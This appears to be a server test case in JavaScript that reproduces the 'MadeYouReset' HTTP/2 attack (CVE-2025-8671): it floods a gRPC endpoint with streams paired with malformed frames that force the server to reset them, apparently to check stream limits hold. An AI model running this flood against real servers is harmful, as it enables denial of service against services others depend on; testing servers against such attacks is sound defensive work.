import { callHeaders, SEARCH } from '../../wire/grpc.mjs';
import { data, headers, priority, windowUpdate } from '../../wire/http2.mjs';

/** CVE-2025-8671, "MadeYouReset": resets that the client does not send but brings about. */
export default {
  sends:
    'streams that the server must reset itself: windows that grow by 0 or overflow, streams on themselves, data after the end',
  mustNot: 'get more streams begun than a client may have',
  seconds: 5,
  async run(context) {
    const block = callHeaders(SEARCH);
    const faults = [
      (stream) => windowUpdate(stream, 0),
      (stream) => Buffer.concat([windowUpdate(stream, 0x7fffffff), windowUpdate(stream, 0x7fffffff)]),
      (stream) => priority(stream, stream, 1),
      (stream) => Buffer.concat([data(stream, Buffer.alloc(5), 1), data(stream, Buffer.alloc(5), 1)]),
    ];
    let stream = -1;
    const next = () => {
      stream += 2;
      return Buffer.concat([headers(stream, block), faults[(stream >> 1) % faults.length](stream)]);
    };
    const begin = () => {
      stream = -1;
      return Buffer.alloc(0);
    };
    await context.flood(2, next, { begin });
  },
};
